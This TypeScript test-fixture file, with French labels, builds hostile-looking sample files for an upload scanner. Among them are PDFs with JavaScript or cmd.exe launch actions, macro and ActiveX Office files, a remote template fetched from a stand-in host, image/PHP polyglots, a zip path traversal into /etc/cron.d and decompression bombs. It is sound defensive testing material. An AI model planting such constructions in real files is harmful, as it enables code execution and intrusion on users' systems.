import { randomBytes } from 'node:crypto';
import { type Cas, EICAR_ZIP, EXE, HTML, LOCKED_OFFICE, media } from './cas.ts';
import { makeDocx, makeJpeg, makeOds, makeOdt, makePdf, makePng, makeXlsx, packedObjects } from './contenus.ts';

/** T12: right type, and something that runs inside. */
export const ACTIFS: readonly Cas[] = [
  {
    titre: 'un PDF à script',
    content: makePdf({ catalog: '/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ' }),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un PDF à script masqué',
    content: makePdf({ catalog: '/OpenAction << /S /J#61vaScr#69pt /JS (x) >> ' }),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un PDF à script compressé',
    content: makePdf({ extra: packedObjects('4 0 << /S /JavaScript /JS (x) >>') }),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un PDF dont les objets sont compressés deux fois',
    content: makePdf({ extra: packedObjects('4 0 <<>>', '/Filter [/ASCIIHexDecode /FlateDecode]') }),
    attendu: 'FICHIER_ILLISIBLE',
  },
  {
    titre: 'un PDF qui lance un programme',
    content: makePdf({ catalog: '/OpenAction << /S /Launch /F (cmd.exe) >> ' }),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un PDF avec une pièce jointe',
    content: makePdf({ extra: '7 0 obj\n<< /Type /EmbeddedFile /Length 0 >>\nstream\n\nendstream\nendobj\n' }),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un PDF sous mot de passe',
    content: makePdf({ extra: 'trailer\n<< /Encrypt 6 0 R >>\n' }),
    attendu: 'FICHIER_CHIFFRE',
  },
  {
    titre: 'un docx à macros',
    name: 'a.docx',
    content: makeDocx(media('word/vbaProject.bin', randomBytes(50))),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un docm renommé docx',
    name: 'a.docx',
    content: makeDocx({
      types: '<Types><Override ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
    }),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un docx au modèle lointain',
    name: 'a.docx',
    content: makeDocx({
      rels: '<Relationships><Relationship Type="http://x/attachedTemplate" Target="http://mal.example/x.dotm" TargetMode="External"/></Relationships>',
    }),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un docx avec un objet',
    name: 'a.docx',
    content: makeDocx(media('word/embeddings/oleObject1.bin', EXE)),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un tableur à contrôles ActiveX',
    name: 'a.xlsx',
    content: makeXlsx(media('xl/activeX/activeX1.xml', Buffer.from('<x/>'))),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un odt à macros',
    name: 'a.odt',
    content: makeOdt(media('Basic/Standard/Module1.xml', Buffer.from('<x/>'))),
    attendu: 'FICHIER_ACTIF',
  },
  {
    titre: 'un ods à script',
    name: 'a.ods',
    content: makeOds(media('Scripts/python/x.py', Buffer.from('print(1)'))),
    attendu: 'FICHIER_ACTIF',
  },
  { titre: 'un docx sous mot de passe', name: 'a.docx', content: LOCKED_OFFICE, attendu: 'FICHIER_CHIFFRE' },
  {
    titre: 'un odt sous mot de passe',
    name: 'a.odt',
    content: makeOdt({ manifest: '<manifest:encryption-data/>' }),
    attendu: 'FICHIER_CHIFFRE',
  },
  {
    titre: 'un docx aux entrées chiffrées',
    name: 'a.docx',
    content: makeDocx({ entries: [{ name: 'word/x.xml', content: 'x', encrypted: true }] }),
    attendu: 'FICHIER_CHIFFRE',
  },
];

/** T12, T14: two files in one, and those that grow once opened. */
export const DOUBLES: readonly Cas[] = [
  { titre: 'un PDF suivi d’une archive', content: makePdf({ after: EICAR_ZIP }), attendu: 'FICHIER_DOUBLE' },
  { titre: 'un PDF suivi d’une page', content: makePdf({ after: HTML }), attendu: 'FICHIER_DOUBLE' },
  { titre: 'un PDF précédé d’autre chose', content: Buffer.concat([HTML, makePdf()]), attendu: 'CONTENU_DIFFERENT' },
  {
    titre: 'un PNG suivi d’une archive',
    name: 'a.png',
    content: makePng({ after: EICAR_ZIP }),
    attendu: 'FICHIER_DOUBLE',
  },
  {
    titre: 'un PNG avec une page en commentaire',
    name: 'a.png',
    content: makePng({ text: '<script>alert(1)</script>' }),
    attendu: 'FICHIER_DOUBLE',
  },
  {
    titre: 'un JPEG avec du PHP en commentaire',
    name: 'a.jpg',
    content: makeJpeg({ text: '<?php phpinfo(); ?>' }),
    attendu: 'FICHIER_DOUBLE',
  },
  {
    titre: 'un JPEG suivi d’une archive',
    name: 'a.jpg',
    content: makeJpeg({ after: EICAR_ZIP }),
    attendu: 'FICHIER_DOUBLE',
  },
  {
    titre: 'un docx précédé d’un programme',
    name: 'a.docx',
    content: makeDocx({ prefix: EXE }),
    attendu: 'CONTENU_DIFFERENT',
  },
  {
    titre: 'un docx avec un commentaire d’archive',
    name: 'a.docx',
    content: makeDocx({ comment: '<?php x(); ?>' }),
    attendu: 'FICHIER_DOUBLE',
  },
  {
    titre: 'un docx qui sort de son dossier',
    name: 'a.docx',
    content: makeDocx(media('../../../etc/cron.d/x', Buffer.from('x'))),
    attendu: 'FICHIER_ILLISIBLE',
  },
  {
    titre: 'un docx avec deux fois la même entrée',
    name: 'a.docx',
    content: makeDocx(media('WORD/document.xml', Buffer.from('x'))),
    attendu: 'FICHIER_DOUBLE',
  },
  {
    titre: 'une bombe : 60 Mo de zéros',
    name: 'a.docx',
    content: makeDocx(media('word/media/a.png', Buffer.alloc(60_000_000))),
    attendu: 'FICHIER_DEMESURE',
  },
  {
    titre: 'une bombe qui annonce quatre gigaoctets',
    name: 'a.xlsx',
    content: makeXlsx({ entries: [{ name: 'xl/a.xml', content: 'x', claimedSize: 4_000_000_000 }] }),
    attendu: 'FICHIER_DEMESURE',
  },
  {
    titre: 'trois mille entrées',
    name: 'a.odt',
    content: makeOdt({ entries: Array.from({ length: 3_000 }, (_, n) => ({ name: `a${n}.xml`, content: 'x' })) }),
    attendu: 'FICHIER_DEMESURE',
  },
  {
    titre: 'une image de dix milliards de points',
    name: 'a.png',
    content: makePng({ width: 100_000, height: 100_000 }),
    attendu: 'FICHIER_DEMESURE',
  },
  {
    titre: 'une photo de deux milliards de points',
    name: 'a.jpg',
    content: makeJpeg({ width: 60_000, height: 40_000 }),
    attendu: 'FICHIER_DEMESURE',
  },
];
